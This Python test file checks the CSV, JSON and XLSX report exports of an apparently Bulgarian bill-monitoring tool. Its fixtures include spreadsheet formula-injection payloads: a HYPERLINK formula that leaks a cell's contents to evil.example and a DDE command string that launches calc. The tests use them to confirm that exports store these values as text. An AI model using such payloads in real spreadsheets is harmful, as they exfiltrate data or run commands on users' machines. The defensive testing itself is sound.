"""Evaluation report exports: CSV, JSON, XLSX read back and checked against the rows inserted."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
from dataclasses import dataclass, field

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from db.engine import session_scope
from db.models import Bill, Evaluation, Finding, Initiative, ReviewFlag
from monitor.cli import app
from core.errors import UsageError
from monitor.reports import ReportFilters, load_report
from monitor.reports.render import render

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]


@dataclass
class Spec:
    bill_id: int
    signature: str
    title: str
    initiator: str
    assembly: int
    submitted_on: dt.date
    verdicts: dict[str, str]
    flag: str | None = None
    excluded: bool = False  # a ratification/budget bill: in the rows, out of the aggregates
    initiative_id: int | None = field(default=None, compare=False)
    principle_scores: dict = field(default_factory=dict, compare=False)
    composite: dict = field(default_factory=dict, compare=False)


SPECS = [
    Spec(900001, "52-602-01-43", "Законопроект за изменение на Закона за горите", "council_of_ministers", 52,
         dt.date(2026, 3, 2), {"INIT-01": "PASS", "CONS-01": "PASS", "CONS-02": "FAIL", "IA-01": "WARN"},
         flag="confirmed"),
    Spec(900002, "52-602-01-44", HOSTILE[0], "council_of_ministers", 52, dt.date(2026, 5, 11),
         {"INIT-01": "PASS", "CONS-01": "FAIL", "CONS-02": "N_A", "IA-01": "FAIL"}, flag="open"),
    Spec(900003, HOSTILE[2], HOSTILE[1], "mps", 52, dt.date(2026, 6, 1),
         {"INIT-01": "PASS", "CONS-01": "N_A", "NA-03": "WARN", "IA-01": "UNKNOWN"}),
    Spec(900004, "51-554-01-169", HOSTILE[3], "mps", 51, dt.date(2025, 9, 17),
         {"INIT-01": "PASS", "NA-03": "FAIL", "CONS-02": "FAIL"}),
    Spec(900006, "52-602-02-3", "Закон за ратифициране на Споразумение", "council_of_ministers", 52,
         dt.date(2026, 4, 1), {"INIT-01": "PASS", "CONS-01": "FAIL"}, excluded=True),
]
UNEVALUATED = Spec(900005, "52-654-01-7", "Законопроект за водите", "committee", 52, dt.date(2026, 7, 1), {})
REGIME = {"council_of_ministers": "CoM", "mps": "MP", "committee": "MP"}


def _engine_scores(verdicts: dict[str, str]) -> tuple[dict, dict]:
    """Scores as the engine stores them, computed by the engine from these verdicts."""
    from criteria import summary
    from criteria.catalogue import CATALOGUE
    from criteria.criterion import Finding as EngineFinding, Verdict

    by_id = {c.id: c for c in CATALOGUE}
    findings = [EngineFinding(cid, Verdict(v), "", "", {}, by_id[cid].confidence, by_id[cid].principles)
                for cid, v in verdicts.items()]
    return summary.principle_scores(findings, by_id), summary.composite(findings, by_id)


def seed(url: str) -> list[Spec]:
    specs = [*SPECS, UNEVALUATED]
    with session_scope(url) as s:
        for sp in specs:
            s.add(Bill(id=sp.bill_id, signature=sp.signature, title=sp.title, initiator=sp.initiator, status="submitted",
                       assembly=sp.assembly, submitted_on=sp.submitted_on, content_hash="h",
                       source_url=f"https://www.parliament.bg/bg/bills/ID/{sp.bill_id}"))
        s.flush()
        for sp in specs:
            init = Initiative(bill_id=sp.bill_id, title=sp.title, initiator=sp.initiator)
            s.add(init)
            s.flush()
            sp.initiative_id = init.id
            if not sp.verdicts:
                continue
            # An older evaluation that is no longer the latest must not leak into the report.
            old = Evaluation(initiative_id=init.id, is_latest=False, ruleset_version="old", thresholds_hash="t",
                             input_hash="i", principle_scores={"openness": {"score": 1.0}}, composite={})
            s.add(old)
            s.flush()
            s.add(Finding(evaluation_id=old.id, criterion_id="DV-01", verdict="FAIL", confidence="C",
                          explanation_bg="стара", explanation_en="old", evidence={}))
            sp.principle_scores, sp.composite = _engine_scores(sp.verdicts)
            facts = {"initiator": REGIME[sp.initiator], "portfolio_exclusion": sp.excluded,
                     "assembly": sp.assembly, "year": sp.submitted_on.year}
            ev = Evaluation(initiative_id=init.id, ruleset_version="2026.1", thresholds_hash="t", input_hash="i",
                            principle_scores=sp.principle_scores, composite=sp.composite,
                            flag_severity="high" if sp.flag else None, summary={"facts": facts, "verdicts": sp.verdicts})
            s.add(ev)
            s.flush()
            for cid, verdict in sp.verdicts.items():
                s.add(Finding(evaluation_id=ev.id, criterion_id=cid, verdict=verdict, principles=["openness"],
                              confidence="C2", explanation_bg=f"{cid} за {sp.signature}",
                              explanation_en=f"{cid} of {sp.signature}", evidence={"n": 1}))
            if sp.flag:
                s.add(ReviewFlag(initiative_id=init.id, evaluation_id=ev.id, severity="high", status=sp.flag,
                                 reasons=[{"criterion": "CONS-02", "verdict": "FAIL", "confidence": "C2"}]))
    return specs


@pytest.fixture
def seeded(db_url):
    return db_url, seed(db_url)


def _report(url: str, filters: ReportFilters | None = None):
    with session_scope(url) as s:
        return load_report(s, filters)


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def _unquote(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


# --------------------------------------------------------------------------- CSV


def test_csv_has_one_row_per_initiative_with_its_latest_verdicts(seeded):
    url, specs = seeded
    rows = _csv_rows(render(_report(url), "csv"))
    assert [int(r["bill_id"]) for r in rows] == [sp.bill_id for sp in sorted(specs, key=lambda s: s.submitted_on)]
    criteria = sorted({c for sp in specs for c in sp.verdicts})
    by_bill = {int(r["bill_id"]): r for r in rows}
    for sp in specs:
        row = by_bill[sp.bill_id]
        assert int(row["initiative_id"]) == sp.initiative_id
        assert {c: row[c] for c in criteria if row[c]} == sp.verdicts
        assert row["FAIL"] == str(sum(v == "FAIL" for v in sp.verdicts.values()))
        for key, value in sp.principle_scores.items():
            assert row[f"principle.{key}"] == ("" if value["score"] is None else str(value["score"]))
        for comp, value in sp.composite.items():
            assert row[f"composite.{comp}"] == ("" if value["score"] is None else str(value["score"]))
            assert row[f"composite.{comp}.total"] == ("" if value["total"] is None else str(value["total"]))
            for cat, cell in value["categories"].items():
                assert row[f"composite.{comp}.{cat}"] == ("" if cell["score"] is None else str(cell["score"]))
        if not sp.verdicts:
            assert all(v == "" for k, v in row.items() if k.startswith(("principle.", "composite.")))
        assert row["review_status"] == (sp.flag or "")
    assert "DV-01" not in rows[0]  # only in a superseded evaluation
    assert by_bill[UNEVALUATED.bill_id]["evaluation_id"] == ""


def test_csv_neutralises_formula_injection(seeded):
    url, specs = seeded
    raw = render(_report(url), "csv")
    rows = _csv_rows(raw)
    cells = [c for r in rows for c in r.values()]
    for bad in HOSTILE:
        assert "'" + bad in cells, bad  # kept, but as text
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert {_unquote(r["title"]) for r in rows} == {sp.title for sp in specs}
    # Plain text and numbers are untouched.
    assert any(r["title"] == "Законопроект за водите" for r in rows)
    assert all(not r["PASS"].startswith("'") for r in rows)


def test_csv_and_json_through_the_cli_with_filters(seeded):
    url, specs = seeded
    runner = CliRunner()
    res = runner.invoke(app, ["report", "--format", "csv", "--assembly", "52", "--initiator", "com", "--db", url])
    assert res.exit_code == 0, res.output
    assert not res.stdout.startswith("\ufeff")  # no BOM into a pipe
    rows = _csv_rows(res.stdout.encode())
    assert sorted(int(r["bill_id"]) for r in rows) == [900001, 900002, 900006]
    res = runner.invoke(app, ["report", "--format", "json", "--year", "2026", "--initiator", "mp", "--db", url])
    assert res.exit_code == 0, res.output
    data = json.loads(res.stdout)
    assert [i["bill_id"] for i in data["initiatives"]] == [900003, 900005]  # "mp" = MPs and committees
    assert data["filters"] == {"assembly": None, "year": 2026, "initiators": ["mps", "committee"], "since": None, "until": None}
    # Usage errors reach `lexwatch` as UsageError, which main() turns into one line and exit code 2.
    bad = runner.invoke(app, ["report", "--format", "csv", "--initiator", "president", "--db", url])
    assert isinstance(bad.exception, UsageError) and "president" in str(bad.exception)
    binary = runner.invoke(app, ["report", "--format", "xlsx", "--db", url])
    assert isinstance(binary.exception, UsageError) and "-o" in str(binary.exception)


# --------------------------------------------------------------------------- JSON


def test_json_carries_verdicts_scores_findings_and_aggregates(seeded):
    url, specs = seeded
    data = json.loads(render(_report(url), "json"))
    items = {i["bill_id"]: i for i in data["initiatives"]}
    for sp in specs:
        item = items[sp.bill_id]
        assert item["title"] == sp.title  # JSON is data: no quoting
        assert item["verdicts"] == sp.verdicts
        assert item["principle_scores"] == sp.principle_scores
        assert item["composite"] == sp.composite
        assert sorted((f["criterion_id"], f["verdict"]) for f in item["findings"]) == sorted(sp.verdicts.items())
        assert item["submitted_on"] == sp.submitted_on.isoformat()
    agg = data["aggregates"]
    evaluated = [sp for sp in specs if sp.verdicts]
    counted = [sp for sp in evaluated if not sp.excluded]  # the engine leaves ratifications out
    assert agg["all"]["portfolio_excluded"]["count"] == 1
    assert agg["all"]["initiatives"] == len(counted)
    for regime in ("CoM", "MP"):
        members = [sp for sp in counted if REGIME[sp.initiator] == regime]
        got = agg["by_initiator"][regime]
        for cid in ("CONS-01", "CONS-02", "IA-01", "NA-03"):
            for verdict in ("PASS", "WARN", "FAIL", "N_A", "UNKNOWN"):
                expected = sum(sp.verdicts.get(cid) == verdict for sp in members)
                assert got["verdicts"].get(cid, {}).get(verdict, 0) == expected, (regime, cid, verdict)
        for key in ("openness", "justification"):
            scores = [sp.principle_scores[key]["score"] for sp in members if sp.principle_scores[key]["score"] is not None]
            mean = got["principle_scores"][key]
            assert mean["n"] == len(scores)
            assert mean["mean"] == (pytest.approx(sum(scores) / len(scores)) if scores else None)
        se = [sp.composite["stakeholder_engagement"]["score"] for sp in members]
        se = [v for v in se if v is not None]
        assert got["composite"][regime]["stakeholder_engagement"]["n"] == len(se)
    assert agg["initiatives"]["all"] == len(specs) and agg["evaluated"]["all"] == len(evaluated)
    assert agg["review_status"] == {"confirmed": 1, "open": 1}
    assert [c["id"] for c in data["criteria"]][:2] == ["INIT-01", "CONS-01"]  # catalogue order, not alphabetical


# --------------------------------------------------------------------------- XLSX


def test_xlsx_sheets_read_back(seeded, tmp_path):
    url, specs = seeded
    out = tmp_path / "report.xlsx"
    res = CliRunner().invoke(app, ["report", "-o", str(out), "--db", url])  # format from the extension
    assert res.exit_code == 0, res.output
    wb = load_workbook(out)
    assert wb.sheetnames[:3] == ["initiatives", "findings", "aggregates"]

    ws = wb["initiatives"]
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, (c.value for c in r))) for r in ws.iter_rows(min_row=2)]
    by_bill = {r["bill_id"]: r for r in rows}
    assert set(by_bill) == {sp.bill_id for sp in specs}
    for sp in specs:
        row = by_bill[sp.bill_id]
        assert row["title"] == sp.title and row["signature"] == sp.signature  # exact text, not a formula
        assert {c: row[c] for c in ("INIT-01", "CONS-01", "CONS-02", "IA-01", "NA-03") if row[c]} == sp.verdicts
        assert row["submitted_on"].date() == sp.submitted_on
        assert row["principle.openness"] == (sp.principle_scores["openness"]["score"] if sp.verdicts else None)
    for r in ws.iter_rows(min_row=2):
        for cell in r:
            assert cell.data_type != "f", cell.value
    hostile_cell = next(c for r in ws.iter_rows(min_row=2) for c in r if c.value == HOSTILE[0])
    assert hostile_cell.data_type == "s"

    findings = wb["findings"]
    fh = [c.value for c in findings[1]]
    got = sorted((r[fh.index("signature")], r[fh.index("criterion_id")], r[fh.index("verdict")])
                 for r in findings.iter_rows(min_row=2, values_only=True))
    assert got == sorted((sp.signature, c, v) for sp in specs for c, v in sp.verdicts.items())

    agg = {(g, m): v for g, m, v in wb["aggregates"].iter_rows(min_row=2, values_only=True)}
    assert agg[("all", "initiatives_selected")] == len(specs)
    assert agg[("all", "initiatives_evaluated")] == len(specs) - 1
    assert agg[("MP", "verdicts.NA-03.FAIL")] == 1 and agg[("MP", "verdicts.NA-03.WARN")] == 1
    assert agg[("CoM", "verdicts.CONS-02.FAIL")] == 1
    assert agg[("CoM", "verdicts.CONS-01.FAIL")] == 1  # the excluded ratification's FAIL is not counted
    assert agg[("all", "review_flags.confirmed")] == 1


def test_filters_select_by_assembly_year_and_initiator(seeded):
    url, specs = seeded
    pick = lambda f: sorted(r.bill_id for r in _report(url, f).rows)  # noqa: E731
    assert pick(ReportFilters(assembly=51)) == [900004]
    assert pick(ReportFilters(year=2026)) == [900001, 900002, 900003, 900005, 900006]
    assert pick(ReportFilters(initiators=("mps",))) == [900003, 900004]
    assert pick(ReportFilters(assembly=52, year=2026, initiators=("council_of_ministers", "committee"))) == [
        900001, 900002, 900005, 900006]
    with pytest.raises(UsageError, match="no initiative matches the filters"):  # an error, never an empty report
        pick(ReportFilters(year=1999))
    for fmt in ("csv", "json", "html"):  # through the CLI: a one-line error and a non-zero exit, no file
        res = CliRunner().invoke(app, ["report", "--format", fmt, "--since", "1999-01-01", "--until", "1999-12-31",
                                       "--db", url])
        assert res.exit_code != 0 and isinstance(res.exception, UsageError)
        assert "no initiative matches the filters (submitted from 1999-01-01; submitted until 1999-12-31)" in str(res.exception)
        assert res.stdout == ""
